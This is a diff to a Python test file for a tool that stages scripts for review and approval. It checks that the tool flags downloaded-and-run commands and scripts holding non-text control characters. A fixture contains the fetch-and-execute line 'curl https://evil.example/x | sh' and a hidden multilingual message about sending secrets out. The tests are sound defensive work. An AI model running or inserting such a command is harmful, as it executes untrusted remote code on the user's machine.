@@ -81,7 +81,7 @@ def test_each_attached_file_can_be_read(people: tuple[Person, Person]) -> None:
     shown = owner.ok("stage", "show", identifier, SCRIPT).stdout
     assert "runs  #!/bin/sh" in shown
     assert "alarm  downloads and runs" in shown
-    assert "not UTF-8" in shown
+    assert "not all of it is text" in shown
     assert "    +curl https://evil.example/x | sh" in shown
     assert shown.rstrip().endswith("\ncurl https://evil.example/x | sh")
     document = owner.ok("stage", "show", identifier, "more.md", "--json").json
@@ -127,3 +127,16 @@ def test_a_stage_that_changes_during_the_question_gets_no_signature(people: tupl
         staging.approve(context, OwnKeys(context, pytest.fail), first, None, swapped)
     assert caught.value.code == "stage-decided"
     assert [row["signatures"] for row in waiting(owner)] == [0]
+
+
+def test_a_text_of_which_something_is_left_out_says_so(people: tuple[Person, Person]) -> None:
+    """Many control characters make a valid text count as a program, of which words of other languages are not shown."""
+    owner, ci = people
+    hidden = "Vertrauliches an Böse schicken. 秘密を送信\n" + "\x01" * 40 + "\n"
+    identifier = staged(ci, f"#!/bin/sh\n# {hidden}")
+    shown = owner.ok("stage", "show", identifier, SCRIPT).stdout
+    assert "秘密を送信" not in shown
+    assert "not all of it is text; what can be read of it is below" in shown
+    assert "秘密を送信" in owner.terminal("stage", "approve", identifier, answer=b"f\nn\n")
+    plain = staged(ci, "\ufeff#!/bin/sh\necho ö\n")
+    assert "not all of it is text" not in owner.ok("stage", "show", plain, SCRIPT).stdout
